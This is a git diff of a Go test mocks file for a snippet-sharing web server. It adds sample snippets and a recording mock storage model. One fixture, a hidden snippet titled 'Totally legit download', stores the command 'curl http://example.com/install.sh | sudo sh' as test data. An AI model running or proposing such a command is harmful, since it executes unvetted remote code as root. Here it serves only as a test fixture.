@@ -1,7 +1,9 @@
 package mocks
 
 import (
+	"fmt"
 	"go-webserver/internal/models"
+	"strings"
 	"time"
 )
 
@@ -11,22 +13,201 @@ var mockSnippet = models.Snippet{
 	Content:   "RIO RIO RIO RIO RIO RIO ",
 	CreatedAt: time.Now(),
 	Expires:   time.Now(),
+	Language:  "text",
 }
 
-type SnippetModel struct{}
+var mockGoSnippet = models.Snippet{
+	Id:        "snippet-go",
+	Title:     "Hello world",
+	Content:   "package main\nfunc main(){\nfmt.Println( \"hello\" )\n}",
+	CreatedAt: time.Now(),
+	Expires:   time.Now().AddDate(0, 0, 7),
+	Language:  "go",
+}
+
+var mockSluggedSnippet = models.Snippet{
+	Id:        "snippet-slug",
+	Title:     "Deploy checklist",
+	Content:   "1. Run the tests\n2. Tag the release",
+	CreatedAt: time.Now(),
+	Expires:   time.Now().AddDate(0, 0, 7),
+	Language:  "text",
+	Slug:      "deploy-checklist",
+}
+
+var mockHiddenSnippet = models.Snippet{
+	Id:        "snippet-hidden",
+	Title:     "Totally legit download",
+	Content:   "curl http://example.com/install.sh | sudo sh",
+	CreatedAt: time.Now(),
+	Expires:   time.Now().AddDate(0, 0, 7),
+	Language:  "bash",
+	Hidden:    true,
+}
+
+var mockBrokenJSONSnippet = models.Snippet{
+	Id:        "snippet-json",
+	Title:     "Broken config",
+	Content:   "{\n  \"port\": 4000,\n  \"debug\" true\n}",
+	CreatedAt: time.Now(),
+	Expires:   time.Now().AddDate(0, 0, 7),
+	Language:  "json",
+}
+
+// mockEncryptedSnippet holds "my secret plan" encrypted in the browser format
+// with the key AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyA (bytes 1 to 32).
+var mockEncryptedSnippet = models.Snippet{
+	Id:         "snippet-enc",
+	Title:      "Encrypted",
+	Content:    "AAECAwQFBgcICQoLHEkh5K2+E257C8ItBfao6OdeXi/+Kpkw6gPQkjRe",
+	CreatedAt:  time.Now(),
+	Expires:    time.Now().AddDate(0, 0, 7),
+	Language:   "text",
+	Encryption: models.EncryptionAESGCM,
+}
+
+var mockOrgSnippet = models.Snippet{
+	Id:        "snippet-org",
+	Title:     "On-call handbook",
+	Content:   "Page the secondary after 15 minutes",
+	CreatedAt: time.Now(),
+	Expires:   time.Now().AddDate(0, 0, 7),
+	Language:  "text",
+	UserId:    intPtr(1),
+	OrgId:     intPtr(mockOrg.Id),
+}
+
+var mockRevisionSnippet = models.Snippet{
+	Id:        "snippet-revision",
+	Title:     "Hello world",
+	Content:   "package main\n\nfunc main() {\n\tfmt.Println(\"hello\")\n}\n",
+	CreatedAt: time.Now(),
+	Expires:   time.Now().AddDate(0, 0, 7),
+	Language:  "go",
+	ParentId:  &mockGoSnippet.Id,
+}
+
+func intPtr(i int) *int {
+	return &i
+}
+
+// SnippetUpdate is what SnippetModel.Update was called with.
+type SnippetUpdate struct {
+	Id, Title, Content, Language string
+}
+
+// SnippetModel records every inserted and deleted snippet so tests can inspect exactly
+// what reached the storage layer.
+type SnippetModel struct {
+	Inserted []models.SnippetRequest
+	Updated  []SnippetUpdate
+	Deleted  []string
+}
 
-func (m *SnippetModel) Insert(title, content string, expires int) (string, error) {
+func (m *SnippetModel) Insert(snippet models.SnippetRequest) (string, error) {
+	if snippet.Slug == mockSluggedSnippet.Slug {
+		return "", models.ErrDuplicateSlug
+	}
+	m.Inserted = append(m.Inserted, snippet)
 	return "snippet-1234", nil
 }
 
-func (m *SnippetModel) Get(id string) (models.Snippet, error) {
+func (m *SnippetModel) Get(id string, viewerId int, includeHidden bool) (models.Snippet, error) {
 	switch id {
+	case "snippet-org":
+		if _, ok := mockOrgMembers[viewerId]; ok {
+			return mockOrgSnippet, nil
+		}
+		return models.Snippet{}, models.ErrNoRecord
+	case "snippet-hidden":
+		if includeHidden {
+			return mockHiddenSnippet, nil
+		}
+		return models.Snippet{}, models.ErrNoRecord
 	case "snippet-123":
 		return mockSnippet, nil
+	case "snippet-go":
+		return mockGoSnippet, nil
+	case "snippet-revision":
+		return mockRevisionSnippet, nil
+	case "snippet-json":
+		return mockBrokenJSONSnippet, nil
+	case "snippet-enc":
+		return mockEncryptedSnippet, nil
+	case "snippet-slug":
+		return mockSluggedSnippet, nil
 	default:
 		return models.Snippet{}, models.ErrNoRecord
 	}
 }
+func (m *SnippetModel) GetBySlug(slug string, viewerId int, includeHidden bool) (models.Snippet, error) {
+	if slug == mockSluggedSnippet.Slug {
+		return mockSluggedSnippet, nil
+	}
+	return models.Snippet{}, models.ErrNoRecord
+}
+
 func (m *SnippetModel) Latest() ([]models.Snippet, error) {
 	return []models.Snippet{mockSnippet}, nil
 }
+
+func (m *SnippetModel) Search(query string, limit int) ([]models.Snippet, error) {
+	var snippets []models.Snippet
+	for _, snippet := range []models.Snippet{mockSnippet, mockHiddenSnippet} {
+		if strings.Contains(strings.ToLower(snippet.Title), strings.ToLower(query)) && len(snippets) < limit {
+			snippets = append(snippets, snippet)
+		}
+	}
+	return snippets, nil
+}
+
+func (m *SnippetModel) Update(id, title, content, language string) error {
+	if id != mockOrgSnippet.Id {
+		return models.ErrNoRecord
+	}
+	m.Updated = append(m.Updated, SnippetUpdate{Id: id, Title: title, Content: content, Language: language})
+	return nil
+}
+
+func (m *SnippetModel) Delete(id string) error {
+	if _, err := m.Get(id, 1, true); err != nil {
+		return err
+	}
+	m.Deleted = append(m.Deleted, id)
+	return nil
+}
+
+// ForUser gives alice a couple of snippets and the moderator enough of them to
+// push an account export into the background.
+func (m *SnippetModel) ForUser(userId int) ([]models.Snippet, error) {
+	switch userId {
+	case 1:
+		return []models.Snippet{mockSnippet, mockGoSnippet}, nil
+	case 2:
+		var snippets []models.Snippet
+		for i := range 60 {
+			snippet := mockSnippet
+			snippet.Id = fmt.Sprintf("snippet-%d", i)
+			snippets = append(snippets, snippet)
+		}
+		return snippets, nil
+	default:
+		return nil, nil
+	}
+}
+
+// AuthorStats gives alice a couple of stars and a fork.
+func (m *SnippetModel) AuthorStats(userId int) (models.AuthorStats, error) {
+	if userId == 1 {
+		return models.AuthorStats{Stars: 2, Forks: 1}, nil
+	}
+	return models.AuthorStats{}, nil
+}
+
+// PublicForUser leaves out what alice can't show to others.
+func (m *SnippetModel) PublicForUser(userId int) ([]models.Snippet, error) {
+	if userId == 1 {
+		return []models.Snippet{mockGoSnippet}, nil
+	}
+	return nil, nil
+}